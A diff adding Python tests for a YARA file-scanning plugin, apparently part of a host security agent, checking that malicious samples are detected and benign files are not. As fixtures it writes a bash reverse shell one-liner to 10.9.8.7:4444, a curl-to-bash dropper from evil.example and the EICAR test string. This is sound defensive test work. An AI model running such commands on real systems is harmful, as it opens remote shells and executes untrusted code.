@@ -1,0 +1,57 @@
+"""yara_scan, run in a real worker, on real files."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+from agent_host.testing import file_event, run_plugin
+
+PLUGIN = Path(__file__).resolve().parents[2] / "plugins" / "yara_scan"
+EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+
+
+class TestYaraScan:
+    """Known-bad content is found; ordinary content, vanished and oversized files are not."""
+
+    def test_true_positives(self, tmp_path: Path) -> None:
+        eicar = tmp_path / "eicar.com"
+        eicar.write_text(EICAR)
+        script = tmp_path / "backup.sh"
+        script.write_text("#!/bin/sh\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1\n")
+        dropper = tmp_path / "update.sh"
+        dropper.write_text("#!/bin/sh\ncurl -s http://evil.example/x | bash\n")
+        elf = tmp_path / "kworkerd"
+        shutil.copy("/bin/true", elf)
+        run = run_plugin(PLUGIN, [file_event(str(p)) for p in (eicar, script, dropper, elf)])
+        assert [run.for_event(i)[0].rule for i in range(1, 4)] == [
+            "yara.eicar_test_file",
+            "yara.reverse_shell_one_liner",
+            "yara.download_and_execute_script",
+        ]
+        assert [f.rule for f in run.for_event(4)] == (
+            ["yara.elf_in_world_writable_folder"] if str(tmp_path).startswith("/tmp/") else []
+        )
+        assert run.for_event(1)[0].attributes["path"] == str(eicar)
+
+    def test_true_negatives_and_skips(self, tmp_path: Path) -> None:
+        notes = tmp_path / "notes.txt"
+        notes.write_text("EICAR is a test file; bash is a shell; /dev/tcp is a bash feature\n")
+        big = tmp_path / "big.bin"
+        big.write_bytes(EICAR.encode() + b"\0" * (2 * 1024 * 1024))
+        events = [
+            file_event(str(notes)),
+            file_event(str(tmp_path / "vanished")),
+            file_event(str(big)),
+            file_event(str(tmp_path), "CREATED"),
+        ]
+        run = run_plugin(PLUGIN, events, config={"max_file_mb": 1})
+        assert run.findings == []
+        assert run.stats.errors == 0
+        assert run.stats.processed == 4
+
+    def test_same_content_scanned_once(self, tmp_path: Path) -> None:
+        eicar = tmp_path / "eicar.com"
+        eicar.write_text(EICAR)
+        run = run_plugin(PLUGIN, [file_event(str(eicar)), file_event(str(eicar), "MODIFIED")])
+        assert run.rules() == ["yara.eicar_test_file"]
